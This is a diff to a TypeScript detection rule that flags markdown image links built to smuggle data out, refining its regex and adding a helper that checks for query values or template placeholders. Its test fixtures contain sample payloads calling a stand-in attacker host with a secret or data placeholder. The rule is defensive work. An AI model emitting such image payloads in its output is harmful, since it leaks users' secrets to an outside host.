@@ -4,7 +4,12 @@ import { pattern, type Rule } from '../rule.ts'
 export const exfiltration: Rule = {
   id: 'exfiltration',
   keywords: ['](http'],
-  find: pattern(/!\[[^\]\n]{0,200}\]\(https?:\/\/[^\s)]{1,500}[?&#/][^\s)]{0,100}[={][^\s)]{0,500}\)/g),
+  find: pattern(/!\[[^\]\n]{0,100}\]\(https?:\/\/[^\s)]{1,800}\)/g, carriesData),
   finds: ['![x](https://evil.example/p?d=SECRET)', '![](http://evil.example/{data})'],
   ignores: ['![logo](https://example.com/logo.png)', '[docs](https://example.com/?q=pods)', '!(x)'],
+}
+
+/** Whether the address has room for data: a parameter with a value, or a gap to fill in. */
+function carriesData(image: string): boolean {
+  return /[?&#;][^=]{1,100}=[^)]|\{/.test(image)
 }
